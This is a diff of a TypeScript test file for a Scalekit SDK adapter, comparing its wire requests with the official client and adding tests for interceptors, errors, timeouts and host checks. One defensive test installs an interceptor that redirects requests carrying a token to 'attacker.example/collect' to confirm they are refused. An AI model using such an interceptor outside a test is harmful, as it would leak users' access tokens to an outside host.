@@ -1,10 +1,7 @@
-// What the unmodified Scalekit SDK says on the wire, held against what lib/scalekit/scalekit-api.ts says in its place.
-// `npm run sdk:check` runs these tests against another version of the SDK and prints their names, so each of them imports
-// by itself the SDK, and the emulated Scalekit, which takes messages and REST rules from it.
+// What lib/scalekit/scalekit-sdk.ts depends on in the SDK, tested over the wire against the unmodified ScalekitClient.
 import { connect } from 'node:net';
-import { join } from 'node:path';
 import { pipeline } from 'node:stream';
-import type * as sdk from '@scalekit-sdk/node';
+import { ScalekitClient } from '@scalekit-sdk/node';
 import { expect, onTestFinished, test } from 'vitest';
 import * as z from 'zod';
 import { AccessToken } from '../../../lib/scalekit/access-token.ts';
@@ -14,30 +11,24 @@ import { ControlPlane } from '../../../lib/scalekit/control-plane.ts';
 import { path } from '../../../lib/scalekit/path.ts';
 import type { ProviderRequestOptions } from '../../../lib/scalekit/provider-client.ts';
 import { encodeRequest } from '../../../lib/scalekit/provider-request.ts';
-import { ScalekitApi } from '../../../lib/scalekit/scalekit-api.ts';
+import { ScalekitSdk } from '../../../lib/scalekit/scalekit-sdk.ts';
 import { StoredSecret } from '../../../lib/settings/stored-secret.ts';
 import { Deadline } from '../../../lib/time/deadline.ts';
 import type { RecordedRequest } from '../../../local/scalekit/recorded-request.ts';
-import type * as emulation from '../../../local/scalekit/start-scalekit-emulator.ts';
+import { startScalekitEmulator } from '../../../local/scalekit/start-scalekit-emulator.ts';
 import { startRawServer } from '../../support/raw-server.ts';
 import { startRecordingServer } from '../../support/recording-server.ts';
-
-// Named by variables, since Vite resolves a name in the import itself beforehand: then all tests of the file fail at once.
-const SDK = '@scalekit-sdk/node';
-const EMULATOR = join(import.meta.dirname, '../../../local/scalekit/start-scalekit-emulator.ts');
 
 const CONNECTION = 'acme';
 const IDENTIFIER = 'user_ada';
 const LIMITS = { signal: new AbortController().signal, timeoutMs: 5_000 };
-// Who speaks, what it can decode, and its connection.
-const OWN_HEADERS = new Set(['user-agent', 'x-sdk-version', 'accept-encoding', 'connection']);
+// Our adapter decodes fewer encodings, and keeps its connections.
+const OWN_HEADERS = new Set(['accept-encoding', 'connection']);
 
 const TokenAnswer = z.object({ access_token: z.string() });
 
-/** The two that speak to an emulated Scalekit, in front of a provider that answers all. */
+/** Both clients, with an emulated Scalekit in front of a provider that answers everything. */
 async function start() {
-  const { startScalekitEmulator }: typeof emulation = await import(EMULATOR);
-  const { ScalekitClient }: typeof sdk = await import(SDK);
   const provider = await startRecordingServer((_request, response) => response.end('{}'));
   onTestFinished(provider.close);
   const emulator = await startScalekitEmulator({
@@ -52,12 +43,12 @@ async function start() {
   onTestFinished(emulator.close);
   const { url, heard } = await listenIn(emulator.url);
   const client = new ScalekitClient(url, emulator.clientId, emulator.clientSecret);
-  const api = new ScalekitApi({ environmentUrl: url, clientId: emulator.clientId });
+  const sdk = new ScalekitSdk({ environmentUrl: url, clientId: emulator.clientId });
 
   return {
     emulator,
     client,
-    api,
+    sdk,
     heard,
     /** The SDK asks for a token once it was refused a call, other than one through the proxy. */
     async authorizeSdk() {
@@ -66,9 +57,9 @@ async function start() {
         identifier: IDENTIFIER,
       });
     },
-    async authorizeApi() {
-      const { body } = await api.requestToken(emulator.clientSecret, LIMITS);
-      api.setAccessToken(TokenAnswer.parse(JSON.parse(body)).access_token);
+    async authorizeOurs() {
+      const { body } = await sdk.requestToken(emulator.clientSecret, LIMITS);
+      sdk.setAccessToken(TokenAnswer.parse(JSON.parse(body)).access_token);
     },
   };
 }
@@ -87,7 +78,7 @@ async function listenIn(listener: string) {
   return { url, heard };
 }
 
-/** Fails with a line that tells all in which the SDK's request and ours differ, for `npm run sdk:check`. */
+/** Fails with a line that lists all differences between the SDK's request and ours. */
 function expectSame(requests: readonly RecordedRequest[]): void {
   const [bySdk = {}, byUs = {}, ...others] = requests.map(facts);
   const names = new Set([...Object.keys(bySdk), ...Object.keys(byUs)]);
@@ -118,11 +109,11 @@ function named(kind: string, headers: Readonly<Record<string, string>>): Record<
 
 test('the request for an access token', async () => {
   // Prepare
-  const { emulator, heard, authorizeSdk, authorizeApi } = await start();
+  const { emulator, heard, authorizeSdk, authorizeOurs } = await start();
 
   // Act
   await authorizeSdk();
-  await authorizeApi();
+  await authorizeOurs();
 
   // Assess
   const requests = emulator.requests.filter(({ kind }) => kind === 'token');
@@ -156,9 +147,9 @@ test.each<{ name: string; method: string } & ProviderRequestOptions>([
   { name: 'a DELETE', method: 'DELETE' },
 ])('$name through the proxy', async ({ name: _, method, ...options }) => {
   // Prepare
-  const { emulator, client, api, authorizeSdk, authorizeApi } = await start();
+  const { emulator, client, sdk, authorizeSdk, authorizeOurs } = await start();
   await authorizeSdk();
-  await authorizeApi();
+  await authorizeOurs();
   emulator.reset();
   const { query, json, form } = options;
   const request = encodeRequest(method, THINGS, options);
@@ -175,7 +166,7 @@ test.each<{ name: string; method: string } & ProviderRequestOptions>([
     ...(form && { formData: form }),
     body: json,
   });
-  await api.proxy({
+  await sdk.proxy({
     ...request,
     connection: CONNECTION,
     identifier: IDENTIFIER,
@@ -204,9 +195,9 @@ test.each<[rpc: string, ask: (accounts: AccountsApi, deadline: Deadline) => Prom
   ['VerifyConnectedAccountUser', (accounts, deadline) => accounts.verifyUser('none', IDENTIFIER, deadline)],
 ])('the SDK declares %s where lib/scalekit/accounts-api.ts asks for it', async (rpc, ask) => {
   // Prepare
-  const { emulator, api } = await start();
+  const { emulator, sdk } = await start();
   const secret = new StoredSecret({ secret: emulator.clientSecret });
-  const controlPlane = new ControlPlane(api, new AccessToken(api, secret));
+  const controlPlane = new ControlPlane(sdk, new AccessToken(sdk, secret));
   const accounts = new AccountsApi(controlPlane, 'https://app.example/verify', secret);
   const deadline = new Deadline(LIMITS.timeoutMs);
   onTestFinished(() => deadline.end());
@@ -217,6 +208,106 @@ test.each<[rpc: string, ask: (accounts: AccountsApi, deadline: Deadline) => Prom
   // Assess
   expect(emulator.requests.map((request) => request.rpc)).toContain(rpc);
 });
+
+test("an interceptor of the SDK's own axios sees every token, account and proxy request", async () => {
+  // Prepare
+  const { emulator, sdk, authorizeOurs } = await start();
+  const seen: unknown[] = [];
+  sdk.core.axios.interceptors.request.use((config: { url?: string }) => {
+    seen.push(config.url);
+    return config;
+  });
+
+  // Act
+  await authorizeOurs();
+  const query = { connector: CONNECTION, identifier: IDENTIFIER };
+  await sdk.control({ method: 'GET', path: '/api/v1/connected_accounts/details', query, ...LIMITS });
+  await sdk.proxy(thingOf(IDENTIFIER));
+
+  // Assess
+  expect(seen).toEqual([
+    'oauth/token',
+    `/api/v1/connected_accounts/details?connector=${CONNECTION}&identifier=${IDENTIFIER}`,
+    `${sdk.core.envUrl}/proxy/things/a%20b`,
+  ]);
+  expect(emulator.requests).toHaveLength(3);
+  for (const { headers } of emulator.requests) {
+    expect(headers).toMatchObject({
+      'user-agent': expect.stringMatching(/^Scalekit-Node\/2\.11\.0 Node\/v/),
+      'x-sdk-version': 'Scalekit-Node/2.11.0',
+    });
+  }
+});
+
+test.each([
+  [404, 'a refusal'],
+  [429, 'a rate limit'],
+  [500, 'a fault'],
+])('status %i is a response, not an exception of the SDK', async (status) => {
+  const server = await startRecordingServer((_request, response) => {
+    response.writeHead(status, { 'retry-after': '7' }).end('{"error":"no"}');
+  });
+  onTestFinished(server.close);
+  const sdk = new ScalekitSdk({ environmentUrl: server.url, clientId: 'client' });
+
+  const answer = await sdk.proxy(thingOf(IDENTIFIER));
+
+  expect(answer).toMatchObject({ status, headers: { 'retry-after': '7' }, body: '{"error":"no"}' });
+});
+
+test('a lost connection is a TransportError, not an exception of the SDK', async () => {
+  const url = await startRawServer((socket) => socket.once('data', () => socket.destroy()));
+  const sdk = new ScalekitSdk({ environmentUrl: url, clientId: 'client' });
+
+  await expect(sdk.proxy(thingOf(IDENTIFIER))).rejects.toMatchObject({
+    name: 'TransportError',
+    failure: 'connection_lost',
+  });
+});
+
+test('requests at the same time keep their own limits and connection callbacks', async () => {
+  // Prepare
+  const server = await startRecordingServer(() => {});
+  onTestFinished(server.close);
+  const sdk = new ScalekitSdk({ environmentUrl: server.url, clientId: 'client' });
+  const connected: string[] = [];
+  const ended: string[] = [];
+  const send = (name: string, timeoutMs: number) =>
+    sdk
+      .proxy({ ...thingOf(name), timeoutMs, onConnection: () => void connected.push(name) })
+      .catch(({ failure }) => ended.push(`${name}: ${failure}`));
+
+  // Act
+  await Promise.all([send('user_slow', 300), send('user_fast', 50)]);
+
+  // Assess
+  expect(connected.sort()).toEqual(['user_fast', 'user_slow']);
+  expect(ended).toEqual(['user_fast: timed_out', 'user_slow: timed_out']);
+});
+
+test('an interceptor cannot send a request, and the token with it, to another host', async () => {
+  const { emulator, sdk, authorizeOurs } = await start();
+  await authorizeOurs();
+  emulator.reset();
+  sdk.core.axios.interceptors.request.use((config: { url?: string }) => {
+    config.url = 'https://attacker.example/collect';
+    return config;
+  });
+
+  await expect(sdk.proxy(thingOf(IDENTIFIER))).rejects.toThrow('another host');
+  expect(emulator.requests).toEqual([]);
+});
+
+test('a request past ScalekitSdk has no limits, so it is refused', async () => {
+  const { sdk } = await start();
+
+  await expect(sdk.core.axios.request({ url: '/keys' })).rejects.toThrow('go through ScalekitSdk');
+});
+
+function thingOf(identifier: string) {
+  const request = encodeRequest('GET', THINGS, {});
+  return { ...request, connection: CONNECTION, identifier, provenSince: undefined, ...LIMITS };
+}
 
 function account(identifier: string): Account {
   return { connection: CONNECTION, connectionSetting: 'ACME_CONNECTION', identifier };
